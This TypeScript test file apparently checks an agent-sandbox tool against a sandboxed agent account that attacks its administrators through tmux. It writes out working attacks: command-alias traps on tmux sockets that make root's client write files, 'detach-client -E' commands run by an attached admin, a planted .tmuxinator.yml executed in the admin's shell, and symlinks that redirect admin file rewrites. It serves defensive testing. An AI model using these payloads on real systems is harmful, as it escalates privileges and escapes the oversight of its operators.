import { attachPlan } from '../../../src/core/session/attach.ts';
import { requireLocated } from '../../../src/core/session/lookup.ts';
import { type Attack, type Lab, one } from './attack.ts';

const socketOf = (session: string): string => `/run/agentworks/agent-tmux-sockets/agt--eve/${session}.sock`;
const createSession = (lab: Lab, name: string) =>
  lab.world.run('session.create', { name, workspace: 'one', agent: 'eve', template: 'idle', yes: true });
const deleteSession = (lab: Lab, name: string) =>
  lab.world.run('session.delete', { name, yes: true, force: true }).catch(() => undefined);

/** Every question makes the client that asks it write a file, with the client's rights. */
const trap = (socket: string): string =>
  `tmux -S ${socket} set-buffer "of the agent"; i=100; for c in list-sessions list-panes has-session capture-pane display-message kill-session kill-server send-keys show-options detach-client attach-session; do tmux -S ${socket} set -s "command-alias[$i]" "$c=save-buffer /root/planted ; save-buffer /home/agentworks/planted ; save-buffer /home/op--one/planted ; $c"; i=$((i+1)); done`;
const planted =
  'ls /root/planted /home/agentworks/planted /home/op--one/planted 2>/dev/null; rm -f /root/planted /home/agentworks/planted /home/op--one/planted';

/** The command that an attached client is told to run when it is detached. */
const told = 'id -u >>/tmp/ran-detached; sudo -n id -u >>/tmp/ran-detached';

export const tmuxAttacks: readonly Attack[] = [
  {
    name: 'makes the client that lists its sessions write files of root',
    answers: 'agents 4, sessions 3: root runs a tmux client against sockets in a directory the agent owns',
    way: 'root: tmux -S SOCKET list-sessions, for every socket of the agent',
    async reference({ root, eve }) {
      await eve(`tmux -S /tmp/eve.sock new-session -d -s x "sleep 100"; ${trap('/tmp/eve.sock')}`);
      await root('tmux -S /tmp/eve.sock list-sessions 2>/dev/null || true');
      const got = await root(planted);
      await root('pkill -u agt--eve tmux; true');
      return got;
    },
    async ours(lab) {
      await createSession(lab, 'trap');
      await lab.eve(trap(socketOf('trap')));
      await lab.world.run('session.list', {});
      await lab.world.run('session.describe', { name: 'trap' });
      await lab.world.run('session.logs', { name: 'trap' }).catch(() => undefined);
      await lab.world.run('workspace.describe', { name: 'one', live: true }).catch(() => undefined);
      await lab.world.run('agent.reinit', { name: 'eve' });
      await lab.world.run('session.stop', { name: 'trap', force: true, grace: 1 }).catch(() => undefined);
      await lab.world.run('session.restart', { name: 'trap', yes: true, force: true }).catch(() => undefined);
      await lab.eve(trap(socketOf('trap')));
      await deleteSession(lab, 'trap');
      return lab.root(planted);
    },
  },
  {
    name: 'makes whoever is attached run a command',
    answers: 'sessions 3: detach-client -E is executed by the client',
    way: 'the admin’s own tmux client attaches to the agent’s socket, opened for it by group and server-access',
    async reference({ root, eve }) {
      await eve(
        'tmux -S /tmp/eve.sock new-session -d -s x "sleep 100"; tmux -S /tmp/eve.sock server-access -a agentworks; chmod 777 /tmp/eve.sock',
      );
      await root(
        'rm -f /tmp/ran-detached; systemd-run -q --uid=agentworks --unit=attached script -qec "env TERM=xterm tmux -S /tmp/eve.sock attach -t x" /dev/null',
      );
      await eve('until tmux -S /tmp/eve.sock list-clients | grep -q x; do sleep 0.1; done');
      await eve(`tmux -S /tmp/eve.sock detach-client -s x -E '${told}'; sleep 0.5`);
      const got = await root(
        'cat /tmp/ran-detached; rm -f /tmp/ran-detached; systemctl stop attached 2>/dev/null; pkill -u agt--eve tmux; true',
      );
      return got.split('\n').includes('0') ? got : '';
    },
    async ours(lab) {
      await createSession(lab, 'watched');
      const located = await requireLocated(lab.world.engine, 'watched');
      const { user, command } = attachPlan(located, { isReadOnly: false, detachesOthers: false });
      const ssh = `ssh -tt -F none -i ${lab.world.host.privateKeyPath} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null ${user}@${lab.world.host.address}`;
      const { spawn } = await import('node:child_process');
      const client = spawn(
        'script',
        ['-qec', `env TERM=xterm ${ssh} '${command.replaceAll("'", `'\\''`)}'`, '/dev/null'],
        { stdio: ['pipe', 'ignore', 'ignore'] },
      );
      await lab.root(`rm -f /tmp/ran-detached`);
      await lab.eve(
        `for i in $(seq 100); do [ -n "$(tmux -S ${socketOf('watched')} list-clients)" ] && break; sleep 0.1; done; tmux -S ${socketOf('watched')} detach-client -s =watched -E '${told}'; sleep 0.5`,
      );
      client.kill();
      const ran = await lab.root('cat /tmp/ran-detached; rm -f /tmp/ran-detached');
      if (ran === '') throw new Error('The command did not run at all, so nothing was shown.');
      await deleteSession(lab, 'watched');
      return ran === (await lab.root('id -u agt--eve')) ? '' : ran;
    },
  },
  {
    name: 'writes the console definition that the admin’s tmuxinator runs',
    answers: 'workspaces 7: the file lives in a directory every granted agent can write',
    way: 'tmuxinator start reads WORKSPACE/.tmuxinator.yml and types its panes into a shell of the admin (here: the pane’s line is given to that shell)',
    async reference({ root, eve, as }) {
      await eve(
        `printf 'windows:\\n  - admin-shell:\\n      panes:\\n        - id -u >/srv/ran-console\\n' >${one}/.tmuxinator.yml; chmod 664 ${one}/.tmuxinator.yml`,
      );
      await root('gpasswd -a agentworks ws--one >/dev/null; chmod 777 /srv');
      await as('agentworks', `sed -n 's/^        - //p' ${one}/.tmuxinator.yml | bash`);
      return root(
        'chmod 755 /srv; gpasswd -d agentworks ws--one >/dev/null; cat /srv/ran-console; rm -f /srv/ran-console',
      );
    },
    async ours(lab) {
      await lab.root('chmod 777 /srv');
      await lab.eve(
        `mkdir -p ~/.config/tmuxinator; printf 'windows:\\n  - w:\\n      panes:\\n        - id -u >/srv/ran-console\\n' | tee ${one}/.tmuxinator.yml >~/.config/tmuxinator/ws-one-console.yml`,
      );
      await createSession(lab, 'console');
      await lab.world.run('workspace.describe', { name: 'one' });
      await deleteSession(lab, 'console');
      return lab.root(`chmod 755 /srv; cat /srv/ran-console 2>/dev/null || true; rm -f ${one}/.tmuxinator.yml`);
    },
  },
  {
    name: 'puts a link where the admin rewrites a file of the workspace',
    answers: 'workspaces 7: the rewrite follows a symlink planted at that path; ssh 7',
    way: 'scp as admin over WORKSPACE/.tmuxinator.yml after each session change',
    async reference({ root, eve, as }) {
      await root('gpasswd -a agentworks ws--one >/dev/null');
      await as('agentworks', 'echo mine >~/important');
      await eve(`rm -f ${one}/.tmuxinator.yml; ln -s /home/agentworks/important ${one}/.tmuxinator.yml`);
      await as('agentworks', `echo '# Generated by agentworks' >${one}/.tmuxinator.yml`);
      return root('gpasswd -d agentworks ws--one >/dev/null; grep Generated /home/agentworks/important');
    },
    async ours(lab) {
      await lab.as('agentworks', 'echo mine >~/important');
      await lab.as('op--one', 'echo mine >~/important');
      const names = ['.tmuxinator.yml', '.code-workspace', 'one.code-workspace', '.envrc'];
      await lab.eve(
        names
          .map(
            (name, i) =>
              `rm -f ${one}/${name}; ln -s /home/${i % 2 ? 'op--one' : 'agentworks'}/important ${one}/${name}`,
          )
          .join('; '),
      );
      await createSession(lab, 'rewrites');
      await lab.world.run('session.restart', { name: 'rewrites', yes: true, force: true });
      await deleteSession(lab, 'rewrites');
      const text = await lab.root('cat /home/agentworks/important /home/op--one/important');
      await lab.eve(`cd ${one}; rm -f ${names.join(' ')}`);
      return text === 'mine\nmine' ? '' : text;
    },
  },
  {
    name: 'leaves the session for the tmux prompt and other windows, with whoever sits at it',
    answers: 'sessions 4: unbinding 14 keys leaves many ways out; -f has no effect behind new-session',
    way: 'tmux new-session … -f CONF, where -f means client flags',
    async reference({ eve }) {
      await eve(
        'printf "unbind c\\n" >/tmp/lock.conf; tmux -S /tmp/eve2.sock new-session -d -s x -f /tmp/lock.conf "sleep 100"',
      );
      return eve(
        'tmux -S /tmp/eve2.sock list-keys | grep -v copy-mode | grep -E "command-prompt|new-window|split-window|display-menu" | head -n 3; tmux -S /tmp/eve2.sock kill-server',
      );
    },
    async ours(lab) {
      await createSession(lab, 'locked');
      const keys = await lab.eve(
        `tmux -S ${socketOf('locked')} list-keys | grep -vE 'copy-mode' | grep -E "command-prompt|new-window|split-window|display-menu|choose-|confirm-before|suspend"`,
      );
      await deleteSession(lab, 'locked');
      return keys;
    },
  },
];
